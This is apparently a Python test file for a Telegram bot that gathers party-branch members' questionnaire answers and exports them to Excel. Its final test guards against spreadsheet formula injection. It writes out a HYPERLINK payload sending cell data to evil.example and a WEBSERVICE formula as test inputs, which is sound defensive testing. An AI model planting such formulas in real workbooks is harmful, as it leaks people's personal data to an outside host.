"""信息统计: answered privately or by the leader for people without a phone, changeable
until the deadline, progress per group, and the Excel export."""

from __future__ import annotations

import io
from datetime import timedelta

from openpyxl import load_workbook

from bot import demo_data
from bot.clock import FrozenClock
from bot.services.report import report_workbook
from storage.models import VisitKind
from tests.conftest import Branch

REQUEST = ("/collect 兼职情况统计\n截止 11月30日\n对象 第三党小组（东湖花园）\n"
           "是否在企业兼职？ 是否\n兼职单位 文字\n兼职年数 数字")


async def test_collection_answered_changed_proxied_and_exported(branch: Branch) -> None:
    h = branch.h
    secretary = await branch.link("王建国")
    await branch.say(secretary, REQUEST)
    assert "已发起「兼职情况统计」" in branch.reply(secretary)
    assert "请在11月30日（周一）前填写" in branch.reply(branch.group)
    [c] = await h.deps.collection_repo.recent(1)
    member = await branch.link("尤凤英")
    branch.fake.press(member, branch.last(branch.group), "📝 填写")
    await h.settle()
    branch.fake.open_link(member, branch.fake.toasts[-1]["url"])
    await h.settle()
    for step in ("是", "社区服务中心", "三年"):
        await h.tap_or_type(member, step)
    assert branch.reply(member) == "请输入数字，例如 3。"
    await h.tap_or_type(member, "3")
    assert "已保存" in branch.reply(member)
    # She changes her answer before the deadline.
    branch.fake.open_link(member, f"https://t.me/branch_helper_bot?start=col_{c.id}")
    await h.settle()
    for step in ("否", "无", "0"):
        await h.tap_or_type(member, step)
    # Her leader fills it in for 许茂林, who has no phone.
    leader = await branch.link("刘建华")
    await branch.say(leader, "/collect")
    assert "第三党小组（东湖花园）：1/10" in branch.reply(leader)
    branch.fake.press(leader, branch.last(leader), "替许茂林填")
    await h.settle()
    for step in ("是", "老干部大学", "5"):
        await h.tap_or_type(leader, step)
    assert branch.reply(leader) == "已替许茂林同志保存。"
    await branch.say(secretary, "/collect")
    progress = next(m for m in reversed(branch.fake.bot_messages(secretary))
                    if "截止" in m.get("text", ""))
    assert "第三党小组（东湖花园）：2/10" in progress["text"]
    branch.fake.press(secretary, progress, "📥 导出表格")
    await h.settle()
    wb = load_workbook(io.BytesIO(branch.fake.uploads["兼职情况统计.xlsx"]))
    rows = {r[1]: r for r in wb["统计"].iter_rows(min_row=2, values_only=True)}
    assert rows["尤凤英"][3:] == ("否", "无", 0, "本人")
    assert rows["许茂林"][3:] == ("是", "老干部大学", 5, "刘建华")
    assert rows["吕振国"][3] is None  # not answered yet
    assert "张懋" not in rows  # another group: not asked
    # After the deadline nothing changes any more.
    assert isinstance(h.clock, FrozenClock)
    h.clock.advance(timedelta(days=9))
    branch.fake.open_link(member, f"https://t.me/branch_helper_bot?start=col_{c.id}")
    await h.settle()
    assert branch.reply(member) == "这项统计已经截止了。"


async def test_bad_requests_and_other_groups(branch: Branch) -> None:
    secretary = await branch.link("王建国")
    await branch.say(secretary, "/collect 标题\n截止 昨天\n问题 文字")
    assert "截止日期看不懂或已过去" in branch.reply(secretary)
    await branch.say(secretary, "/collect 标题\n截止 12月1日\n对象 火星\n问题 文字")
    assert "对象请写" in branch.reply(secretary)
    await branch.say(secretary, REQUEST)
    [c] = await branch.h.deps.collection_repo.recent(1)
    outsider_member = await branch.link("张懋")  # 第一党小组: not asked
    branch.fake.open_link(outsider_member, f"https://t.me/branch_helper_bot?start=col_{c.id}")
    await branch.h.settle()
    for step in ("是", "某单位", "1"):
        await branch.h.tap_or_type(outsider_member, step)
    assert branch.reply(outsider_member) == "这项统计不需要这位同志填写。"
    assert await branch.h.deps.collection_repo.answers(c.id) == {}


async def test_reminder_the_day_before_the_deadline(branch: Branch) -> None:
    h = branch.h
    secretary = await branch.link("王建国")
    await branch.say(secretary, REQUEST)  # deadline 11月30日
    [c] = await h.deps.collection_repo.recent(1)
    done = await branch.link("尤凤英")
    branch.fake.open_link(done, f"https://t.me/branch_helper_bot?start=col_{c.id}")
    await h.settle()
    for step in ("否", "无", "0"):
        await h.tap_or_type(done, step)
    late = await branch.link("孔繁荣")
    leader = await branch.link("刘建华")
    [push] = [p for p in await h.deps.scheduler.plan(
        h.deps.collections.today() + timedelta(days=7)) if p.kind == "collect_remind"]
    assert isinstance(h.clock, FrozenClock)
    h.clock.set(push.when.replace(hour=0, minute=5))  # the planner runs after midnight
    await h.run_job("pushes:plan")
    h.clock.set(push.when)
    await h.run_job(f"push:{push.key}")
    assert "明天截止，您还没有填写" in branch.reply(late)
    assert not any("明天截止" in m["text"] for m in branch.fake.bot_messages(done))
    names = branch.reply(leader)
    assert "许茂林" in names and "孔繁荣" in names and "尤凤英" not in names


async def test_text_from_members_is_never_a_formula_in_the_workbooks(branch: Branch) -> None:
    """The audit's case: an answer `=HYPERLINK("http://…"&B2&C2,…)` and a roster name
    `=WEBSERVICE(…)` were written as live formulas; opening the file would send the
    neighbouring cells (names, groups) to that address."""
    deps = branch.h.deps
    evil_name = '=WEBSERVICE(B3)'  # the roster keeps names short
    evil_answer = '=HYPERLINK("http://evil.example/?"&B2&C2,"点我")'
    rows = demo_data.roster_rows()
    rows[2]["姓名"] = evil_name  # 李秀英's row
    assert (await deps.roster.import_rows(rows, actor_tg=None)).ok
    li = await deps.people.by_ext_id("A003")
    wang = await deps.people.by_ext_id("A001")
    assert li is not None and wang is not None and li.name == evil_name
    at = "2026-11-22T02:00:00+00:00"
    cid = await deps.collection_repo.create("情况", [("备注", "text", ())], "everyone", None,
                                            "2026-12-01", created_by_tg=1, at=at)
    await deps.collection_repo.save(cid, li.id, [evil_answer], recorded_by=li.id, at=at)
    collection = await deps.collection_repo.get(cid)
    assert collection is not None
    await deps.visit_repo.log_visits(
        [wang.id], kind=VisitKind.ROUTINE, visited_on="2026-11-20", recorded_by=li.id,
        companions=None, notes=None, gifts=None, money_yuan=None, task_id=None, at=at)
    report = await deps.report.build(2026)
    books = {"collection": await deps.collections.workbook(collection),
             "report": report_workbook(report, [("走访人", evil_name)])}
    for label, data in books.items():
        wb = load_workbook(io.BytesIO(data))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str)]
        assert any(c.value.startswith("=") for c in cells), label  # the text is there
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert formulas == [], (label, formulas)
